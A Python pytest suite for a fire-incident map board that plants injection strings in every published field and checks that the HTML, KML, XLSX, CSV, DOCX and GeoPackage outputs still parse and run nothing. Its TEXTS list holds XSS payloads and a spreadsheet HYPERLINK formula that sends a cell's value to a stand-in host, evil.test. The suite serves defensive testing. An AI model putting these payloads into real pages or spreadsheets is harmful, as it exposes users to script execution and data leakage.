"""Hostile text in every text field: each published format still parses, and the text stays text."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import zipfile
from collections import Counter
from collections.abc import Callable
from contextlib import closing
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import docx
import geopandas as gpd
import openpyxl
import pytest
from lxml import etree

from jdzfire.board.board import Board, Edition
from jdzfire.board.labels import Lang
from tests.board.planting import KEYS, OPEN, PRIVATE, full_board, plant
from tests.maps.browser import BROWSER_MARKS, DESK, Seen, place_on_page
from tests.site.published import publish_all

pytestmark = pytest.mark.filterwarnings("ignore:Use `@` matmul:PendingDeprecationWarning")

TEXTS = (
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "<img src=x onerror=alert(3)>",
    "\"'><svg onload=alert(4)>",
    '=HYPERLINK("http://evil.test/?"&A1,"x")',
    "+1-1@SUM(A1)|cmd",
    "]]><!-- &lt;b&gt; &#0; --><![CDATA[",
    "{{7*7}} {% raw %} ${alert(5)} `\\`",
    "a\r\nb\tc\u2028d\u2029e",
    "\u202eevil\u2066 \x00\x07\x1b[31m\x85",
    "javascript:alert(6)//",
    "%s {0} {n} \\u003cscript\\u003e",
)
"""What a cell of somebody's table may hold."""

OPEN_EVERYTHING = """async () => {
  const map = Object.values(window).find((v) => v && v.flyTo && v.getZoom);
  let opened = 0;
  for (const layer of Object.values(map._layers)) {
    if (!layer.listens || !layer.listens("click") || layer === map) continue;
    const area = layer.getBounds && layer.getBounds();
    const at = layer.getLatLng ? layer.getLatLng() : area && area.getCenter();
    if (!at) continue;
    layer.fire("click", { latlng: at, originalEvent: new MouseEvent("click") });
    await new Promise((done) => setTimeout(done, 5));
    if (document.querySelector(".leaflet-popup")) opened += 1;
  }
  return opened;
}"""
"""Clicks every layer of the map; states how often a card stood open."""

EDITIONS: list[Edition] = ["internal", "public"]


def hostile_text(table: str, column: str, row: int) -> str:
    return TEXTS[(row + sum(map(ord, table + column))) % len(TEXTS)]


@pytest.fixture(scope="module")
def hostile(make_board: Callable[..., Board]) -> Board:
    """Each text field holds one of the texts, and so do the city and each reason."""
    board = full_board(make_board(city=TEXTS[0] + TEXTS[4]))
    everywhere = PRIVATE | OPEN | KEYS
    return plant(board, hostile_text, in_fields=everywhere, in_reasons=True)


@pytest.fixture(scope="module")
def files_of(hostile: Board) -> Callable[[Edition, Lang], dict[str, bytes]]:
    made: dict[tuple[str, str], dict[str, bytes]] = {}

    def files(edition: Edition, lang: Lang) -> dict[str, bytes]:
        if (edition, lang) not in made:
            made[edition, lang] = publish_all(hostile, edition, lang)
        return made[edition, lang]

    return files


each_edition = pytest.mark.parametrize(
    ("edition", "lang"), [("internal", "zh"), ("internal", "en"), ("public", "zh")]
)


class _Elements(HTMLParser):
    """Elements and their attributes that do something, as a browser would find them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: Counter[str] = Counter()
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found[tag] += 1
        for name, value in attrs:
            if name.startswith("on") or (value or "").strip().lower().startswith("javascript:"):
                self.found[f"{tag} {name}"] += 1

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def elements(page: bytes) -> _Elements:
    reader = _Elements()
    reader.feed(page.decode("utf-8"))
    reader.close()
    return reader


@pytest.mark.slow
@each_edition
def test_pages_have_the_elements_of_a_harmless_board_and_no_others(
    files_of: Callable[..., dict[str, bytes]],
    make_board: Callable[..., Board],
    edition: Edition,
    lang: Lang,
) -> None:
    harmless = publish_all(full_board(make_board()), edition, lang)
    pages = [name for name in harmless if name.endswith(".html")]
    assert len(pages) >= 6
    hostile_files = files_of(edition, lang)
    for mine, theirs in zip([n for n in hostile_files if n.endswith(".html")], pages, strict=True):
        found, usual = elements(hostile_files[mine]).found, elements(harmless[theirs]).found
        for tag in ("script", "style", "img", "svg", "iframe", "link", "meta", "form", "object"):
            assert found[tag] == usual[tag], (mine, tag)
        assert not [tag for tag in found if " " in tag], mine


@each_edition
def test_every_json_parses_and_holds_the_texts(
    files_of: Callable[..., dict[str, bytes]], edition: Edition, lang: Lang
) -> None:
    files = files_of(edition, lang)
    documents = {n: json.loads(c) for n, c in files.items() if n.endswith(("json",))}
    assert len(documents) >= 4
    places = [f["properties"]["place"] for f in documents["unresolved.geojson"]["features"]]
    assert {text.strip()[:8] for text in places if text} & {text[:8] for text in TEXTS}


@each_edition
def test_every_xml_parses_and_has_no_markup_of_theirs(
    files_of: Callable[..., dict[str, bytes]], edition: Edition, lang: Lang
) -> None:
    parser = etree.XMLParser(resolve_entities=False, no_network=True)
    count = 0
    for name, content in files_of(edition, lang).items():
        if not name.endswith((".kml", ".xml")):
            continue
        count += 1
        tree = etree.fromstring(content, parser)
        tags = {etree.QName(e).localname.lower() for e in tree.iter(etree.Element)}
        assert not tags & {"script", "img", "svg", "b"}, name
        assert not [e for e in tree.iter() if isinstance(e, etree._Comment)], name
    assert count >= 5


@each_edition
def test_kml_balloons_show_the_texts_and_run_none(
    files_of: Callable[..., dict[str, bytes]], edition: Edition, lang: Lang
) -> None:
    tree = etree.fromstring(files_of(edition, lang)["exports/events.kml"])
    balloons = [e.text or "" for e in tree.iter("{*}description")]
    assert balloons
    for balloon in balloons:
        found = elements(balloon.encode()).found
        assert not [tag for tag in found if tag in ("script", "img", "svg") or " " in tag]


@each_edition
def test_no_cell_of_a_sheet_runs(
    files_of: Callable[..., dict[str, bytes]], edition: Edition, lang: Lang
) -> None:
    files = files_of(edition, lang)
    book = openpyxl.load_workbook(io.BytesIO(files["exports/events.xlsx"]))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert [cell.coordinate for cell in cells if cell.hyperlink] == []
    assert any("HYPERLINK" in str(cell.value) for cell in cells)
    text = files["exports/events.csv"].decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert len({len(row) for row in rows}) == 1
    for row in rows:
        for value in row:
            assert not value.startswith(("=", "@", "\t", "\r", "+1-1")), value


@each_edition
def test_a_geopackage_is_read_by_others(
    files_of: Callable[..., dict[str, bytes]], edition: Edition, lang: Lang, tmp_path: Path
) -> None:
    path = tmp_path / "events.gpkg"
    path.write_bytes(files_of(edition, lang)["exports/events.gpkg"])
    with closing(sqlite3.connect(path)) as base:
        assert base.execute("PRAGMA integrity_check").fetchone() == ("ok",)
    events = gpd.read_file(path, layer="events")
    assert len(events) == 12
    assert any("<script>" in str(place) for place in events["place"])


@each_edition
def test_bulletins_are_text_without_markup(
    files_of: Callable[..., dict[str, bytes]], edition: Edition, lang: Lang
) -> None:
    for name in ("bulletin.md", "bulletin.txt"):
        text = files_of(edition, lang)[name].decode()
        assert "<" not in text
        assert "\x00" not in text
        assert "\u202e" not in text


@each_edition
def test_a_docx_opens_and_shows_the_texts(
    files_of: Callable[..., dict[str, bytes]], edition: Edition, lang: Lang
) -> None:
    documents = {n: c for n, c in files_of(edition, lang).items() if n.endswith(".docx")}
    assert len(documents) == 3
    for content in documents.values():
        document = docx.Document(io.BytesIO(content))
        said = [p.text for p in document.paragraphs]
        said += [c.text for t in document.tables for row in t.rows for c in row.cells]
        assert any("alert(" in text for text in said)
        with zipfile.ZipFile(io.BytesIO(content)) as book:
            body = book.read("word/document.xml")
        assert b"fldSimple" not in body.replace(b'w:instr="PAGE"', b"")
        etree.fromstring(body)


class TestInBrowser:
    """Needs Chromium."""

    pytestmark = BROWSER_MARKS

    @pytest.mark.slow
    @pytest.mark.parametrize("edition", EDITIONS)
    def test_every_card_is_opened_and_nothing_runs(
        self, see: Callable[..., Seen], hostile: Board, edition: Edition
    ) -> None:
        seen = see(hostile, edition=edition, size=DESK)
        page = seen.page
        usual = page.evaluate("document.scripts.length")
        # teams, works and, for the duty room, permits; events are opened from the list below
        opened = page.evaluate(OPEN_EVERYTHING)
        registers = [hostile.teams, hostile.heat_sources]
        assert opened == sum(map(len, registers)) + (edition == "internal") * len(hostile.permits)
        for tab in page.locator(".tab").all():
            tab.click()
        page.fill("#search input", "alert")
        assert page.locator("#found .hit").count() > 5
        page.fill("#search input", "")
        for name in ("open", "explained"):
            page.locator(f'.tab[data-tab="{name}"]').click()
            for item in page.locator(f"#list-{name} .item").all():
                item.click()
                name = item.get_attribute("data-id")
                page.locator(".event-popup", has_text=name).first.wait_for()
        for spot in hostile.hotspots.geometry[:4]:
            page.mouse.click(*place_on_page(page, spot.x, spot.y))
        assert page.evaluate("document.scripts.length") == usual
        assert page.locator("img[src=x], svg[onload], [onerror]").count() == 0
        assert page.title().startswith("<script>alert(1)</script>")
        seen.assert_quiet()

    @pytest.mark.slow
    @pytest.mark.parametrize("edition", EDITIONS)
    def test_papers_front_page_and_season_map_run_nothing(
        self,
        chromium: Any,
        tmp_path: Path,
        files_of: Callable[..., dict[str, bytes]],
        edition: Edition,
    ) -> None:
        files = files_of(edition, "zh")
        names = [n for n in files if n.endswith(".html") and n != "index.html"]
        assert len(names) >= 6
        context = chromium.new_context()
        for number, name in enumerate(names):
            path = tmp_path / f"{number}.html"
            path.write_bytes(files[name])
            seen = Seen(context.new_page(), path)
            seen.watch()
            seen.page.goto(seen.address)
            seen.page.wait_for_timeout(50)
            assert "alert(" in seen.page.locator("body").inner_text(), name
            seen.assert_quiet()
        context.close()
